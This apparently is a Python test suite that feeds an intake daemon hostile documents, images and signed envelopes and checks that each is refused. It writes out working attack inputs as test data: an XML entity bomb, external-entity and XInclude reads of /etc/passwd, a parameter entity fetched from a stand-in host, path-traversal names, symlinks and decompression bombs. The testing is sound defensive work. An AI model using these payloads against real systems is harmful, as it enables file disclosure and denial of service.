"""Documents, pictures and signed envelopes made to harm their reader, or by accident: each is answered in words."""
import glob, hashlib, os, shutil, subprocess, zlib

from hostile_case import MIB, HostileCase, content_of, enrolment_xml, jpeg, manifest, oriented, photo_id, png, png_chunk, resized, sign
from site_case import wait_until

from faces import Face                                                             # noqa: E402

BOMB = '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">' + ''.join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + ']>'


class HostileBytes(HostileCase):
    def document(self, name, text, outcome=None, codes=('malformed-xml',)):
        outcome = outcome or ('QUARANTINE' if 'malformed-xml' in codes else 'REJECT')
        self.drop(name, {'manifest.xml': text, 'a.jpg': self.photo}, outcome, codes)

    def test_documents(self):
        whole = manifest(f'{self.id()} base', [('a.jpg',)])
        body = whole.split('\n', 1)[1]
        hostile = ('QUARANTINE', ('hostile-xml',))
        self.document('entities', BOMB + body.replace('<basis>', '<basis>&j;'), *hostile)
        self.document('external', '<!DOCTYPE r SYSTEM "file:///etc/passwd">' + body, *hostile)
        self.document('parameter', '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://192.0.2.1/x">%x;]>' + body, *hostile)
        self.document('nested', '<a>' * 40000, *hostile)
        self.document('nested-closed', '<a>' * 20000 + '</a>' * 20000, *hostile)
        self.document('ten-megabytes', whole + ' ' * (10 * MIB), *hostile)
        self.document('long-basis', manifest(f'{self.id()} long', [('a.jpg',)], basis='x' * 9 * MIB), *hostile)
        self.document('attributes', '<request ' + ' '.join(f'a{i}="1"' for i in range(20000)) + '/>', *hostile)
        self.document('elements', '<request>' + '<a/>' * 50000 + '</request>', *hostile)
        self.document('utf-16', whole.replace('UTF-8', 'UTF-16').encode('utf-16'))
        self.document('utf-16-bomb', (BOMB + body).encode('utf-16-le'))
        self.document('utf-7', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AD4-' + body)
        self.document('latin-1', whole.replace('UTF-8', 'ISO-8859-1').replace('shop', 'sh\xf6p').encode('latin-1'))
        self.document('nul', whole.replace('shop', 'sh\0p'))
        self.document('nul-after', whole + '\0')
        self.document('cut', whole[:-30])
        self.document('two-roots', whole + '<request/>')
        self.document('binary', self.photo)
        self.document('unknown-entity', whole.replace('shop', '&shop;'))
        self.document('include', whole.replace('<basis>', '<basis><i:include xmlns:i="http://www.w3.org/2001/XInclude" '
                                               'href="file:///etc/passwd"/>'), codes=('basis-missing',))
        self.document('stylesheet', manifest(f'{self.id()} stylesheet', [('a.jpg',)], basis='').replace(
            '<request', '<?xml-stylesheet href="file:///etc/passwd"?><request', 1), codes=('basis-missing',))
        self.document('long-value', manifest(f'{self.id()} value', [('a.jpg',)], basis='x' * 200000),
                      codes=('not-as-the-schema-says',))
        self.document('many-images', manifest(f'{self.id()} images', [(f'{i}.jpg',) for i in range(900)]),
                      codes=('packet-too-large', 'file-not-listed'))
        for name, file in (('outside', '../../x.jpg'), ('absolute', '/etc/passwd'), ('dots', '..'), ('hidden', '.a.jpg'),
                           ('backslash', '..\\a.jpg'), ('manifest-as-image', 'manifest.xml')):
            self.document(name, manifest(f'{self.id()} {name}', [(file,), ('a.jpg',)]), codes=())
        self.settings('<settling quietSeconds="1" incompleteSeconds="2"/>')
        self.good()
        self.run_daemon()
        self.check_answers()
        self.check_log()
        for receipt in self.site.receipts('precinct-014'):
            self.assertNotIn('root:', content_of(receipt.path).decode())
            self.assertLess(os.path.getsize(receipt.path), 512 << 10, receipt.drop)

    def test_pictures(self):
        photo = self.photo
        for name, content in {
                'truncated': photo[:len(photo) // 2], 'no-end': photo[:-2], 'head-only': photo[:20], 'empty': b'',
                'claims-65500': resized(photo, 65500, 65500), 'claims-0': resized(photo, 0, 0),
                'claims-more': resized(photo, 4000, 4000), 'scans': jpeg(2000, 2000, 3, scans=3000), 'cut-scan': jpeg(64, 64, cut=-20),
                'png-65500': png(65500, 65500, b'\0' * MIB), 'png-wide': png(1 << 30, 1, b'\0' * 64),
                'png-cut': png(64, 64)[:-40], 'png-bad-sum': png(64, 64).replace(b'IDAT', b'IDAT\xff', 1),
                'png-short-rows': png(4000, 4000, b'\0' * 1000),
                'animation': png(64, 64, extra=png_chunk(b'acTL', b'\0\0\0\x10\0\0\0\0')),
                'gif': b'GIF89a' + b'\0' * 100, 'svg': b'<svg xmlns="http://www.w3.org/2000/svg"/>', 'zeroes': b'\0' * MIB,
                'pdf': b'%PDF-1.7\n' + b'x' * 100, 'webp': b'RIFF\0\0\0\0WEBPVP8 '}.items():
            self.one_image(name, content, image=('a.jpg',))
        for name, content in {
                'sequential': jpeg(64, 64), 'grey': jpeg(64, 64, 1), 'cmyk': jpeg(64, 64, 4), 'progressive': jpeg(64, 64, 3, 2),
                'png': png(64, 64), 'png-16-bit': png(64, 64, depth=16), 'png-grey': png(64, 64, colour=0),
                'png-alpha': png(64, 64, colour=6), 'trailing': photo + b'<script>alert(1)</script>' * 1000,
                'png-trailing': png(64, 64, tail=b'PK\3\4' + b'x' * 1000),
                'png-text-bomb': png(64, 64, extra=png_chunk(b'zTXt', b'Comment\0\0' + zlib.compress(b'x' * (64 * MIB), 9))),
                **{f'orientation-{i}': oriented(photo, i) for i in range(0, 10)}}.items():
            self.one_image(name, content, 'ACCEPT', ())
        for name, file in (('video-name', 'clip.mp4'), ('animation-name', 'clip.gif')):
            self.one_image(name, photo, codes=('not-a-still',), file=file)
        self.good()
        self.run_daemon()
        self.check_answers()
        self.check_log()

    def test_over_the_budget(self):
        """A file of three million chunks that hold nothing, each of them allowed: the worker's own alarm ends it, once,
        and nobody else waits for it."""
        costly = png(1, 1, extra=png_chunk(b'tEXt', b'') * (40 * MIB // 12))
        self.good('before')
        self.one_image('costly', costly, 'QUARANTINE', ('check-gave-up',))
        self.good('after', 5)
        self.run_daemon()
        self.check_answers()
        receipts = {receipt.drop: receipt for receipt in self.site.receipts('precinct-014')}
        self.assertEqual(receipts['costly'].faults[0]['text'], 'looking at it took more processor time than it may')
        self.good('with a new worker', 6)
        self.assertTrue(wait_until(lambda: self.site.receipt_of('precinct-014', 'with a new worker')))
        with open(self.path + '.log') as file:
            failed = [line for line in file if 'check-failed' in line]
        self.assertEqual(len(failed), 1, failed)

    def words(self, pattern):
        """Answers below that folder: {path: text}."""
        return {path: content_of(path).decode() for path in glob.glob(self.site.at(*pattern))}

    def signed(self, content, signer='moss', folder=None, options=()):
        """DER of the content signed, envelope and all."""
        folder = folder or self.site.at('demo', 'people')
        return subprocess.run(['openssl', 'cms', '-sign', '-nodetach', '-binary', '-outform', 'DER', '-md', 'sha256',
                               '-signer', f'{folder}/{signer}.pem', '-inkey', f'{folder}/{signer}.key', *options],
                              input=content, check=True, capture_output=True).stdout

    def stranger(self):
        """A certificate of another authority for somebody of the same name."""
        folder = os.path.join(self.path, 'stranger')
        os.mkdir(folder)
        subprocess.run(['openssl', 'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', f'{folder}/moss.key', '-out',
                        f'{folder}/moss.pem', '-days', '30', '-subj', '/CN=moss'], check=True, capture_output=True)
        return folder

    def test_envelopes(self):
        """Decisions, acknowledgements and enrolments that are not what they should be."""
        text = content_of(os.path.join(os.path.dirname(__file__), '..', '..', 'schemas', 'examples', 'valid',
                                       'decision-intake.xml'))
        good = self.signed(text)
        pem = subprocess.run(['openssl', 'cms', '-cmsout', '-inform', 'DER', '-outform', 'PEM'], input=good, check=True,
                             capture_output=True).stdout
        sealed = subprocess.run(['openssl', 'cms', '-encrypt', '-binary', '-outform', 'DER',
                                 self.site.at('demo', 'people', 'moss.pem')], input=text, check=True, capture_output=True).stdout
        drops = {'nothing': b'', 'two-megabytes': b'\0' * (2 * MIB), 'sixty-megabytes': b'\x30' * (60 * MIB), 'pem.p7m': pem,
                 'sealed.p7m': sealed, 'nested.p7m': self.signed(good), 'cut.p7m': good[:len(good) // 2], 'xml.xml': text,
                 'changed.p7m': good.replace(b'confirm', b'c0nfirm'), 'detached.p7m': self.signed(text)[:40],
                 'stranger.p7m': self.signed(text, folder=self.stranger()), 'no-attributes.p7m': self.signed(text, options=['-noattr']),
                 'unknown-docket.p7m': good, 'der-bomb': b'\x30\x84\xff\xff\xff\xff' + b'\x30\x80' * 100000,
                 'bomb.p7m': self.signed((BOMB + text.decode().split('\n', 1)[1]).encode()), 'jpeg': self.photo,
                 '%2f..%2fescape': b'x', 'new\nline': b'y', 'n' * 255: b'z', 'same-name': b'first'}
        folders = [self.site.at('review', 'decisions'), self.site.at('case-management', 'acks')]
        for folder in folders:
            for name, content in drops.items():
                with open(os.path.join(folder, name), 'wb') as file:
                    file.write(content)
            os.mkdir(os.path.join(folder, 'a-folder'))
            shutil.copyfile(os.path.join(folder, 'unknown-docket.p7m'), os.path.join(folder, 'a-folder', 'decision.p7m'))
            os.mkdir(os.path.join(folder, 'empty-folder'))
            os.mkfifo(os.path.join(folder, 'a-fifo'))
            os.mkfifo(os.path.join(folder, 'another-fifo'))
            os.symlink('/etc/passwd', os.path.join(folder, 'a-link'))
        self.gallery_drops()
        self.good()
        self.run_daemon()
        self.check_answers()
        count = len(drops) + 5
        decided = ('review', 'answers', '*', '*.txt')
        acknowledged = ('case-management', 'answers', '*', 'receipt-1.txt')
        wait_until(lambda: len(self.words(decided)) >= count and len(self.words(acknowledged)) >= count, 30, 0.2)
        self.assertEqual(len(self.words(decided)), count, sorted(self.words(decided)))
        self.assertEqual(len(self.words(acknowledged)), count, sorted(self.words(acknowledged)))
        for path, words in self.words(decided).items():
            self.assertTrue(words.startswith('Refused ('), f'{path}: {words}')
            self.assertNotIn('root:', words)
        for path, words in self.words(acknowledged).items():
            self.assertRegex(words, '(?i)reject|set aside', path)
        enrolled = ('gallery', 'out', '*', 'receipt-1.txt')
        expected = self.enrolments
        wait_until(lambda: len(self.words(enrolled)) >= len(expected) + 1, 30, 0.2)
        for name, wanted in expected.items():
            with self.subTest(enrolment=name):
                found = [words for path, words in self.words(enrolled).items() if os.path.basename(os.path.dirname(path)).startswith(name + '-')]
                self.assertEqual(len(found), 1, sorted(self.words(enrolled)))
                self.assertIn(wanted, ' '.join(found[0].split()))
        for folder in folders + [self.site.at('gallery', 'in')]:
            self.assertEqual(os.listdir(folder), [])
        self.check_log()

    def stray_face(self, number):
        """Another person's photo, as far as bytes can tell."""
        face = self.faces.gallery(1)
        folder = os.path.join(self.path, 'strays')
        os.makedirs(folder, exist_ok=True)
        path, content = os.path.join(folder, f'{number}.jpg'), content_of(face.path)
        note = f'stray {number}'.encode()
        content = content[:2] + b'\xff\xfe' + (len(note) + 2).to_bytes(2, 'big') + note + content[2:]
        with open(path, 'wb') as file:
            file.write(content)
        return Face(path, 1000 + number, face.eyes, hashlib.sha256(content).hexdigest(), True)

    def gallery_drops(self):
        inbox = self.site.at('gallery', 'in')
        people = [self.faces.gallery(person) for person in (1, 2)]
        self.enrolments = {}

        def packet(name, wanted, signer='moss', spoil=None, document=None):
            folder = os.path.join(inbox, '.part')
            os.mkdir(folder)
            for face in people:
                shutil.copyfile(face.path, os.path.join(folder, photo_id(face.person) + '.jpg'))
            with open(os.path.join(folder, 'enrolment.xml'), 'w') as file:
                file.write(document or enrolment_xml(people, 'moss', len(self.enrolments) + 100))
            if signer is not None:
                sign(self.site, signer, os.path.join(folder, 'enrolment.xml'))
            if spoil is not None:
                spoil(folder)
            os.rename(folder, os.path.join(inbox, name))
            self.enrolments[name] = wanted

        def replace(make):
            def spoil(folder):
                path = os.path.join(folder, photo_id(people[0].person) + '.jpg')
                os.remove(path)
                make(path)
            return spoil

        def append(name, content):
            def spoil(folder):
                with open(os.path.join(folder, name), 'ab') as file:
                    file.write(content)
            return spoil

        packet('unsigned', 'signature', signer=None)
        packet('not-a-keeper', 'gallery keeper', signer='birch')
        packet('changed', 'signature', spoil=append('enrolment.xml', b' '))
        packet('linked', 'no plain file', spoil=replace(lambda path: os.symlink('/etc/passwd', path)))
        packet('fifo', 'no plain file', spoil=replace(os.mkfifo))
        packet('signature-junk', 'signature', signer=None, spoil=append('enrolment.xml.p7s', b'\0' * (3 * MIB)))
        packet('bomb', 'document type', document=BOMB + '<enrolment/>')
        packet('huge', '8 MB', document='<enrolment>' + ' ' * (9 * MIB) + '</enrolment>')
        packet('many', 'not listed', spoil=lambda folder: [open(os.path.join(folder, f'{i:04d}.jpg'), 'w').close() for i in range(400)])
        people = [self.stray_face(number) for number in range(310)]
        packet('three-hundred', 'New photographs: 310')
        os.mkfifo(os.path.join(inbox, 'a-fifo'))
        self.enrolments['a-fifo'] = 'no plain file'
        os.symlink('/etc', os.path.join(inbox, 'a-link'))
        self.enrolments['a-link'] = 'no plain file'

    def test_a_revocation_list_out_of_order(self):
        """What waits for a new list waits; what needs none goes on, however many wait."""
        self.start_daemon()
        path = self.site.at('keys', 'crl.pem')
        good = content_of(path)
        with open(path, 'wb') as file:
            file.write(b'no list\n')
        text = content_of(os.path.join(os.path.dirname(__file__), '..', '..', 'schemas', 'examples', 'valid',
                                       'decision-intake.xml'))
        inbox = self.site.at('review', 'decisions')
        for number in range(24):
            with open(os.path.join(inbox, f'{number}.p7m'), 'wb') as file:
                file.write(self.signed(text + b'\n' * number))
        self.assertTrue(wait_until(lambda: len([name for name in os.listdir(inbox) if name.startswith('.claim-')]) >= 24),
                        os.listdir(inbox))
        self.good()
        self.assertTrue(wait_until(lambda: self.site.receipt_of('precinct-014', 'good')), 'what needs no list waits with the rest')
        self.assertEqual(self.words(('review', 'answers', '*', '*.txt')), {})
        with open(path, 'wb') as file:
            file.write(good)
        self.assertTrue(wait_until(lambda: len(self.words(('review', 'answers', 'moss', '*.txt'))) == 24, 90, 0.3))
        self.assertEqual(os.listdir(inbox), [])
